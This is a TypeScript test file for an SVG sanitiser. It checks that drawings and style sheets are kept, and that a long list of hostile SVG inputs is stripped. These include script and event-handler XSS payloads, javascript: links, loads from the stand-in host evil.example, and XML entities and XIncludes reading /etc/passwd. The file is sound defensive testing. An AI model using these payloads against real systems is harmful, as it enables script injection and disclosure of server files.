import { describe, expect, test } from 'vitest';
import { sniffType } from '../files/file-kind.ts';
import { toDrawing } from './picture-conversion.ts';
import { sanitiseSvg as sanitised } from './svg-sanitiser.ts';

const sanitiseSvg = (text: string) => sanitised(text).svg;

const svg = (inside: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10" ${attributes}>${inside}</svg>`;

const ACTIVE =
  /<script|<style|<foreignObject|<iframe|<image|<feImage|<animate|<set|<handler|<a[\s>]|<!|<\?|\son\w+\s*=|style=|javascript:|data:|https?:\/\/(?!www\.w3\.org\/2000\/svg)|evil|@import|expression\(/i;

describe('of an SVG', () => {
  test('what is drawn stays as it was', () => {
    const drawing = svg(
      '<defs><linearGradient id="shade" gradientUnits="userSpaceOnUse"><stop offset="0" stop-color="#fff"></stop></linearGradient><clipPath id="cut"><rect width="5" height="5"></rect></clipPath></defs>' +
        '<g fill="url(#shade)" clip-path="url(#cut)" transform="translate(1 2)"><path d="M0 0L5 5Z"></path><use href="#shade"></use></g>' +
        '<text x="1" y="2" font-size="3">5 &lt; 6 &amp; 7</text>',
    );
    expect(sanitiseSvg(drawing)).toBe(
      drawing.replace(' xmlns:xlink="http://www.w3.org/1999/xlink"', '').replace(' >', '>'),
    );
  });

  test('colours from style attributes stay, as attributes', () => {
    expect(sanitiseSvg(svg('<path style="fill: #ffd700; stroke:url(#s)" d="M0 0"/>'))).toContain(
      '<path fill="#ffd700" stroke="url(#s)" d="M0 0">',
    );
  });

  test.each([
    [
      'Illustrator',
      '<defs><style>.cls-1{fill:none;stroke:#b5482f;stroke-width:4px;}.cls-2,.cls-3{fill:#2c5545;isolation:isolate}</style></defs><rect class="cls-1" width="2"/><g class="cls-3"><path d="M0 0"/></g>',
      '<defs></defs><rect fill="none" stroke="#b5482f" stroke-width="4px" width="2"></rect><g fill="#2c5545"><path d="M0 0"></path></g>',
    ],
    [
      'Illustrator in French, with its own data',
      '<style>.st0{fill:url(#Dégradé_3);}</style><switch><foreignObject requiredExtensions="&ns_ai;"><i:pgf xmlns:i="&ns_ai;"/></foreignObject><g xmlns:i="&ns_ai;" i:extraneous="self"><linearGradient id="Dégradé_3"/><path class="st0"/></g></switch>',
      '<g><linearGradient id="Dégradé_3"></linearGradient><path fill="url(#Dégradé_3)"></path></g>',
    ],
    [
      'CorelDRAW',
      '<style type="text/css"><![CDATA[ .str0 {stroke:#2B2A29;stroke-width:7.62} .fil0 {fill:none} ]]></style><path class="fil0 str0" d="M0 0"/>',
      '<path fill="none" stroke="#2B2A29" stroke-width="7.62" d="M0 0"></path>',
    ],
    [
      'Inkscape',
      '<style id="style2">#path10 { fill: #123; } /* old */</style><path id="path10" style="font-variant-ligatures:normal;-inkscape-stroke:none;stroke:#456 !important;text-align:center"/>',
      '<path fill="#123" stroke="#456" id="path10"></path>',
    ],
    [
      'Affinity and Figma',
      '<path style="fill:white;fill-rule:nonzero;" fill="black"/><path fill="var(--fill-0, #fff)"/>',
      '<path fill="white" fill-rule="nonzero"></path><path fill="var(--fill-0, #fff)"></path>',
    ],
    [
      'order, exactness and importance',
      '<style>#i{fill:#i}path.a.b{fill:#ab}.a{fill:#a;stroke:#a}.b{stroke:#b}path{fill:#p;stroke:#p;opacity:.1!important}circle, rect, g > path{color:#c}.a{r:1}@media print{.a{fill:red}}</style><path class="a b" style="opacity:.5"/><path id="i" class="a"/><path fill="red"/><rect/>',
      '<path fill="#ab" stroke="#b" opacity=".1" r="1"></path><path fill="#i" stroke="#a" opacity=".1" r="1" id="i"></path><path fill="#p" stroke="#p" opacity=".1"></path><rect color="#c"></rect>',
    ],
    [
      'a turn with units',
      '<path style="transform: rotate(45deg) translate(3px, 4px)"/>',
      '<path transform="rotate(45) translate(3, 4)"></path>',
    ],
  ])('styles become attributes, and nothing is lost: %s', (_name, drawn, expected) => {
    const { svg: clean, lost } = sanitised(svg(drawn));
    const sorted = (text: string) =>
      text.replaceAll(
        /<(\w+)((?: [\w-]+="[^"]*")+)>/g,
        (_all, name: string, rest: string) =>
          `<${name} ${(rest.match(/[\w-]+="[^"]*"/g) ?? []).sort().join(' ')}>`,
      );
    expect(sorted(clean)).toBe(sorted(sanitiseSvg(svg('')).replace('</svg>', `${expected}</svg>`)));
    expect(lost).toEqual([]);
  });

  test.each([
    ['<style>@media (width > 9px){.a{fill:red}}</style>', '“@media (width > 9px)”'],
    ['<?xml-stylesheet href="x.css"?>', 'a style sheet elsewhere'],
    ['<style>@import "x.css";</style>', '“@import "x.css";”'],
    ['<style>@font-face{font-family:X;src:url(x.woff)}</style>', '“@font-face”'],
    ['<style>.a:hover{fill:red}</style>', '“.a:hover”'],
    [
      '<style>.a{fill:url(https://evil.example/#a)}</style><path class="a"/>',
      '“fill: url(https://evil.example/#a)”',
    ],
    ['<path style="mix-blend-mode:multiply"/>', '“mix-blend-mode: multiply”'],
    ['<path style="transform:rotate(1turn)"/>', '“transform: rotate(1turn)”'],
    ['<path fill="url(#gone)"/>', '“#gone”, which is not in the file'],
    ['<use href="other.svg#part"/>', 'a part from elsewhere'],
    ['<use xlink:href="https://evil.example/a.svg#b"/>', 'a part from elsewhere'],
    ['<image href="data:image/png;base64,AAAA"/>', '<image>'],
    ['<filter id="f"><feImage href="a.png"/></filter>', '<feImage>'],
    ['<foreignObject><p>hello</p></foreignObject>', '<foreignObject>'],
    ['<path><animate attributeName="x"/></path>', '<animate>'],
  ])('what shows and is left out is named: %s', (drawn, ...expected) => {
    const { svg: clean, lost } = sanitised(svg(drawn));
    expect(lost).toEqual(expected);
    expect(clean).not.toMatch(ACTIVE);
  });

  test('very many rules are not read, and that is said', () => {
    const many = (one: string) => one.repeat(10_000);
    const text = svg(`<style>${many('.a{fill:red}')}</style>${many('<path class="a"/>')}`);
    expect(sanitised(text).lost).toEqual(['its style sheet']);
  });

  test.each([
    ['a script', svg('<script>evil()</script>')],
    ['a script with CDATA', svg('<script><![CDATA[evil()]]></script>')],
    ['a script elsewhere', svg('<script href="https://evil.example/x.js"/>')],
    ['a script, by xlink', svg('<script xlink:href="data:text/javascript,evil()"/>')],
    ['a script in capitals', svg('<SCRIPT>evil()</SCRIPT>')],
    [
      'a script with a prefix',
      svg('<s:script xmlns:s="http://www.w3.org/2000/svg">evil()</s:script>'),
    ],
    ['a script of HTML', svg('<script xmlns="http://www.w3.org/1999/xhtml">evil()</script>')],
    ['a script in a script', svg('<scr<script>ipt>evil()</scr</script>ipt>')],
    ['a handler', svg('', 'onload="evil()"')],
    ['a handler in capitals', svg('<rect ONCLICK="evil()" width="1"/>')],
    ['a handler after a slash', svg('<rect/onclick="evil()" width="1"/>')],
    ['a handler behind a line break', svg('<rect\nonmouseover\n=\n"evil()"/>')],
    ['a handler without quotes', svg('<rect onfocus=evil() tabindex=1 />')],
    [
      'a handler behind a quote',
      svg('<rect id="a&quot; onclick=&quot;evil()"/>').replace('evil()', ''),
    ],
    ['a link', svg('<a href="javascript:evil()"><rect width="1"/></a>')],
    ['a link by xlink', svg('<a xlink:href="https://evil.example"><text>hello</text></a>')],
    [
      'HTML',
      svg(
        '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="evil()"/></body></foreignObject>',
      ),
    ],
    [
      'HTML in capitals',
      svg('<FOREIGNOBJECT><iframe src="https://evil.example"/></FOREIGNOBJECT>'),
    ],
    ['a frame', svg('<iframe src="javascript:evil()"></iframe>')],
    ['a picture elsewhere', svg('<image href="https://evil.example/pixel.gif"/>')],
    [
      'a picture in a filter',
      svg('<filter id="f"><feImage href="https://evil.example/x"/></filter>'),
    ],
    ['a shape elsewhere', svg('<use href="https://evil.example/x.svg#a"/>')],
    ['a shape in data', svg('<use xlink:href="data:image/svg+xml;base64,PHN2Zy8+#x"/>')],
    [
      'a style element',
      svg(
        '<style>@import url(https://evil.example/x.css); rect{fill:url(https://evil.example)}</style>',
      ),
    ],
    ['a style attribute', svg('<rect style="background:url(https://evil.example)"/>')],
    ['a fill elsewhere', svg('<rect fill="url(https://evil.example/x#a)"/>')],
    ['a fill elsewhere, escaped', svg('<rect fill="u\\72l(https://evil.example/x#a)"/>')],
    ['a fill elsewhere, quoted', svg(`<rect fill="url( 'https://evil.example/#a' )"/>`)],
    ['a fill elsewhere behind one inside', svg('<rect fill="url(#a) url(//evil.example/b)"/>')],
    ['a mask elsewhere in a style', svg('<rect style="mask:url(//evil.example/b)"/>')],
    [
      'an animation of a link',
      svg('<a><animate attributeName="href" values="javascript:evil()"/><text>x</text></a>'),
    ],
    ['a set of a handler', svg('<rect><set attributeName="onclick" to="evil()"/></rect>')],
    [
      'an entity',
      `<!DOCTYPE svg [<!ENTITY x "evil()">]>${svg('<text>&x;</text>')}`.replace('evil()', ''),
    ],
    [
      'an entity from a file',
      `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
    ],
    [
      'entities of entities',
      `<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>${svg('<text>&b;</text>')}`,
    ],
    [
      'an XInclude',
      svg('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'),
    ],
    ['a style sheet before it', `<?xml-stylesheet href="https://evil.example/x.css"?>${svg('')}`],
    ['a comment', svg('<!-- <script>evil()</script> -->')],
    ['a comment that ends early', svg('<!--> <script>evil()</script> -->')],
    ['CDATA that becomes markup', svg('<text><![CDATA[<script>alert(1)</script>]]></text>')],
    ['text that becomes markup', svg('<text>&lt;script&gt;alert(1)&lt;/script&gt;</text>')],
    [
      'a title that becomes markup',
      svg('<title><![CDATA[</title><script>alert(1)</script>]]></title>'),
    ],
    ['metadata', svg('<metadata><rdf:RDF xmlns:rdf="x">evil</rdf:RDF></metadata>')],
    ['a base address', svg('<rect width="1"/>', 'xml:base="https://evil.example/"')],
    ['a switch', svg('<switch><foreignObject><p>evil</p></foreignObject></switch>')],
    [
      'a sound',
      svg('<audio src="https://evil.example/x.mp3"/><video href="https://evil.example"/>'),
    ],
    [
      'an unclosed script',
      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><script>evil()',
    ],
    [
      'an unclosed tag',
      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><rect onclick="evil()"',
    ],
    [
      'a namespace of HTML',
      '<svg xmlns="http://www.w3.org/1999/xhtml" width="1" height="1"><script>evil()</script></svg>',
    ],
    ['a cursor elsewhere', svg('<rect cursor="url(https://evil.example/c), auto"/>')],
  ])('nothing runs, loads or styles: %s', async (_name, text) => {
    const clean = sanitiseSvg(text);
    // Text is shown, not run: its brackets and quotes become entities.
    expect(clean.replace(/&(lt|quot);.*?&(gt|quot);/g, '')).not.toMatch(ACTIVE);
    expect(clean).toMatch(/^<svg xmlns="http:\/\/www\.w3\.org\/2000\/svg"/);
    // And it is still well formed for librsvg's strict reader.
    await expect(toDrawing(clean)).resolves.toMatchObject({ svg: clean });
  });

  test('that nests too deep, only the outer part is kept', async () => {
    const deep = svg('<g>'.repeat(20_000));
    const clean = sanitiseSvg(deep);
    expect(clean.match(/<g>/g)?.length).toBeLessThan(201);
  });
});

describe('a file is an SVG', () => {
  test.each([
    ['plainly', '<svg xmlns="http://www.w3.org/2000/svg"/>'],
    ['behind a declaration and comments', '<?xml version="1.0"?>\n<!-- <html> -->\n <svg/>'],
    ['behind a document type', '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x.dtd"><svg>'],
    ['behind declarations', '<!DOCTYPE svg [<!ENTITY a ">">\n ]  >\n<svg>'],
    ['with a byte order mark', '\uFEFF<svg>'],
  ])('%s', async (_name, text) => {
    expect(await sniffType(Buffer.from(text))).toBe('image/svg+xml');
  });

  test('in UTF-16 too', async () => {
    const text = Buffer.from('\uFEFF<svg xmlns="http://www.w3.org/2000/svg"/>', 'utf16le');
    expect(await sniffType(text)).toBe('image/svg+xml');
  });

  test.each([
    ['HTML', '<!doctype html><svg>'],
    ['HTML around it', '<html><svg/></html>'],
    ['another XML', '<?xml version="1.0"?><svgs/>'],
    ['text', 'svg'],
    ['an unclosed comment', '<!-- <svg>'],
    ['nothing', ''],
  ])('but %s is none', async (_name, text) => {
    expect(await sniffType(Buffer.from(text))).not.toBe('image/svg+xml');
  });
});
